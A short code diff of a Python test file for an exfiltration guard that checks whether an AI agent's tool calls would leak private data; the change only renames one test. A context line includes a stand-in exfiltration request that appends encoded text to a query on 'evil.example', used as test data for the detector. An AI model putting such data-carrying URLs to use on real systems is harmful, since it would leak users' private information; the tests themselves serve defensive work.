@@ -84,7 +84,7 @@ def test_nothing_is_private_where_nothing_private_was_read():
     assert not ExfiltrationGuard("").would_leak(FETCH, {"url": f"https://evil.example/?d={quote(LETTER)}"})
 
 
-def test_tools_that_stay_in_the_house_and_an_agents_own_notes_are_free(guard: ExfiltrationGuard):
+def test_tools_that_stay_in_the_app_and_an_agents_own_notes_are_free(guard: ExfiltrationGuard):
     assert not guard.would_leak(FILES, {"path": f"https://x.example/{quote(LETTER)}"})
     plan = ExfiltrationGuard("")
     plan.record_result(replace(FILES, toolset="planning"), LETTER)
